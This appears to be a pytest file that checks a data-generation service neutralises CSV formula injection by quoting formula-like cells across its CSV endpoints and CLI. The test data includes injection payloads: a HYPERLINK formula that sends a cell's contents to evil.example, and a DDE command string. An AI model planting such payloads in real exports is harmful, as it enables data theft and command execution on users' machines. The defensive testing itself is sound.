"""CSV formula injection: a table whose categories (or column names) begin like a spreadsheet
formula is answered with those cells behind a single quote in every CSV path (/generate, the
page's download, which is /generate's CSV, /generate/stream, and `python -m training sample`),
and as they are in JSON, Arrow and Parquet. Plain numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import numpy as np
import pytest

from core.formats import csv_text
from tests.conftest import run_python

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB",
    "\rCR",
    "plain",
]
NAME = "=1+1 amount"  # a column name that is a formula too


def test_csv_text_neutralises_formulas_and_leaves_numbers_and_text() -> None:
    for value in HOSTILE[:-1]:
        assert csv_text(value) == "'" + value
    for value in ["plain", "-2", "+3.5", "-1e-3", ".5", "", "a=b", " =1"]:
        assert csv_text(value) == value


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A table trained briefly from a CSV whose `item` categories and one column name are formulas."""
    from training.pipeline import TrainOptions, train_and_export
    from training.train import TrainConfig

    root = tmp_path_factory.mktemp("hostile-csv")
    rng = np.random.default_rng(0)
    with (root / "orders.csv").open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["item", NAME, "count"])
        for i in range(400):
            writer.writerow([HOSTILE[i % len(HOSTILE)], round(float(rng.normal(-5, 3)), 2), int(rng.integers(0, 9))])
    train_and_export(
        TrainOptions(
            data=str(root / "orders.csv"),
            name="orders",
            latent_dim=2,
            hidden=(16,),
            models_dir=root / "models",
            iwae_samples=2,
            baseline=False,
            quality_report=False,
            formats=("onnx",),
            train=TrainConfig(max_epochs=3, warmup_epochs=1, seed=0),
        ),
        log=lambda _: None,
    )
    return root / "models"


def _check_csv(text: str, json_rows: list[list]) -> None:
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == ["item", "'" + NAME, "count"], parsed[0]
    items = {row[0] for row in parsed[1:]}
    # the categories as read (a CSV reader strips the leading tab and carriage return)
    assert items <= {"'" + v for v in HOSTILE[:4]} | {"TAB", "CR", "plain"}, items
    assert items & {"'" + v for v in HOSTILE[:4]}, items
    for cells, row in zip(parsed[1:], json_rows, strict=True):
        assert cells[0] == csv_text(row[0])  # the same rows: only the formula cells are quoted
        assert not cells[1].startswith("'")  # a negative amount stays a number
        assert float(cells[1]) == pytest.approx(row[1], rel=1e-6)


def test_every_csv_path_quotes_formula_cells(hostile_model: Path, live_server, tmp_path: Path) -> None:
    server = live_server(model_dir=str(hostile_model))
    body = {"model": "orders", "n": 300, "seed": 4, "mode": "sample"}
    with httpx.Client(base_url=server.url, timeout=30) as http:
        rows = http.post("/generate", json=body).json()["samples"]
        assert {row[0] for row in rows} & set(HOSTILE[:-1]), "no hostile category drawn"  # JSON: as in the data
        answer = http.post("/generate", json=body, headers={"Accept": "text/csv"})
        assert answer.status_code == 200
        _check_csv(answer.text, rows)
        stream = http.post("/generate/stream", json=body, headers={"Accept": "text/csv"})
        assert stream.status_code == 200
        _check_csv(stream.text, rows)
        arrow = http.post("/generate/stream", json=body, headers={"Accept": "application/vnd.apache.arrow.stream"})
    import pyarrow as pa

    table = pa.ipc.open_stream(arrow.content).read_all()
    assert table.column_names == ["item", NAME, "count"]  # Arrow carries the values as they are
    assert table.column("item").to_pylist() == [row[0] for row in rows]
    out = tmp_path / "rows.csv"
    run_python(
        "-m", "training", "sample", "orders", "--n", "300", "--seed", "4", "--mode", "sample",
        "--out", str(out), "--models-dir", str(hostile_model), check=True,
    )  # fmt: skip
    _check_csv(out.read_text(), rows)
